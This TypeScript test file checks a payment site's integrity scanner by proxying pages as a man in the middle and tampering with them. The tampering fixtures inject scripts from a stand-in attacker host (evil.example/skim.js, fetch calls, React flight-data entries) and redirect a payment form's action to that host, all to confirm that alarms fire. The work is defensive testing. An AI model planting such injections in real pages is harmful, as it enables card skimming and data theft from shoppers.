import { readFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type OutgoingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { project, runIntegrity } from '../fixtures/integrity';
import { expect, test } from '../fixtures/journey';
import { stack } from '../fixtures/stack';

interface Changes {
  readonly text?: (text: string, path: string) => string;
  readonly headers?: (headers: IncomingHttpHeaders | OutgoingHttpHeaders) => OutgoingHttpHeaders;
}

/** Serves the site as a man in the middle would. */
async function serveTampered({ text = (same) => same, headers = (same) => ({ ...same }) }: Changes) {
  const server = createServer((request, response) => {
    void (async () => {
      const url = request.url ?? '/';
      const given = await fetch(stack.site + url);
      const kept = headers(Object.fromEntries(given.headers));
      delete kept['content-encoding'];
      delete kept['content-length'];
      const [, nonce = ''] = /'nonce-([^']+)'/.exec(given.headers.get('content-security-policy') ?? '') ?? [];
      response.writeHead(given.status, kept).end(text(await given.text(), url).replace('$nonce', nonce));
    })();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}/`, close: () => server.close() };
}

test('row 34: home and a payment page are what was built', async ({ account, startPayment }) => {
  const refid = await startPayment(account('01'));
  const { code, output } = await runIntegrity(`${stack.site}/`, `${stack.site}/epayment/entry?refid=${refid}`);
  expect(output).toContain('"differences": []');
  expect(code).toBe(0);
});

interface Tampering extends Changes {
  /** The text of the alarm. */
  readonly alarm: string;
}

/** The first script that the HTML of a page loads. */
const firstScript = /<script src="(\/_next\/static\/chunks\/[^"]+)"[^>]*><\/script>/;
const isPage = (text: string) => text.startsWith('<!DOCTYPE html>');

const tamperings: Readonly<Record<string, Tampering>> = {
  'a script of another site that is added': {
    text: (text) => text.replace('</body>', '<script src="https://evil.example/skim.js"></script></body>'),
    alarm: 'without the policy',
  },
  'a script that is changed': {
    text: (text, url) => (url.endsWith('.js') ? `${text};fetch("//evil.example")` : text),
    alarm: 'is not what was built',
  },
  'a script that is gone from the page': {
    text: (text) => (isPage(text) ? text.replace(firstScript, '') : text),
    alarm: 'the page lacks a script',
  },
  'a script that is not served': {
    text: (text, url) => (url.endsWith('.js') ? '' : text),
    alarm: 'is not what was built',
  },
  'a line that is added to the data of React': {
    text: (text) =>
      text.replace(
        '</body>',
        '<script nonce="$nonce">self.__next_f.push([1,"ff:[\\"$\\",\\"script\\",null,{\\"src\\":\\"https://evil.example/x.js\\"}]\\n"])</script></body>',
      ),
    alarm: 'a script of another site: https://evil.example/x.js',
  },
  'a chunk of another site in the data of React': {
    text: (text) => text.replace(/\\"\/_next\/static\/chunks\//, '\\"https://evil.example/chunks/'),
    alarm: 'a script of another site: https://evil.example/chunks/',
  },
  'a form that is sent elsewhere': {
    text: (text) => text.replace('action="/api/', 'action="https://evil.example/api/'),
    alarm: 'lead a form away',
  },
  'a policy that lets more in': {
    headers: (headers) => ({
      ...headers,
      'content-security-policy': String(headers['content-security-policy'] ?? '').replace("'strict-dynamic'", 'https:'),
    }),
    alarm: 'content-security-policy is',
  },
  'a header that is gone': {
    headers: ({ 'x-frame-options': _gone, ...headers }) => headers,
    alarm: 'x-frame-options is',
  },
};

for (const [what, { alarm, ...changes }] of Object.entries(tamperings)) {
  test(`row 34: ${what} is an alarm on the payment page`, async ({ account, openVisit }) => {
    const refid = await (await openVisit()).startPayment(account('01'));
    const changed = await serveTampered(changes);
    try {
      const { code, output } = await runIntegrity(`${changed.url}epayment/entry?refid=${refid}`);
      expect(output).toContain(alarm);
      expect(code).toBe(1);
    } finally {
      changed.close();
    }
  });
}

test('row 34: the manifest has every script that the payment page loads, at once and on interaction', async ({
  page,
  account,
  startPayment,
  payment,
}) => {
  const manifest = JSON.parse(readFileSync(path.join(project, '.next/script-manifest.json'), 'utf8')) as {
    readonly scripts: Readonly<Record<string, string>>;
  };
  const loaded = new Set<string>();
  page.on('request', (request) => {
    if (request.resourceType() === 'script') loaded.add(new URL(request.url()).pathname);
  });
  await startPayment(account('01'));
  const atOnce = loaded.size;
  await payment.fillCard({ number: '4242424242424242', expiry: '12/39', cvv: '123' });
  await payment.pay.click();
  await expect.poll(() => loaded.size).toBeGreaterThan(atOnce);
  expect([...loaded].filter((script) => manifest.scripts[script] === undefined)).toEqual([]);
});

test('row 34: what a browser held back can be reported, and nothing else', async ({ request }) => {
  const policy = (await request.get('/')).headers()['content-security-policy'] ?? '';
  const endpoint = /report-uri ([^;\s]+)/.exec(policy)?.[1] ?? '';
  const report = {
    'effective-directive': 'img-src',
    'blocked-uri': 'https://evil.example/x',
    'document-uri': stack.site,
  };
  const post = (type: string, data: string) => request.post(endpoint, { headers: { 'content-type': type }, data });
  expect((await post('application/csp-report', JSON.stringify({ 'csp-report': report }))).status()).toBe(204);
  expect((await post('application/json', '{}')).status()).toBe(415);
  expect((await post('application/csp-report', 'x'.repeat(20_000))).status()).toBe(413);
  expect((await request.get(endpoint)).status()).toBe(405);
  const many = await Promise.all(Array.from({ length: 30 }, () => post('application/reports+json', '[]')));
  expect(many.map((response) => response.status())).toContain(429);
});
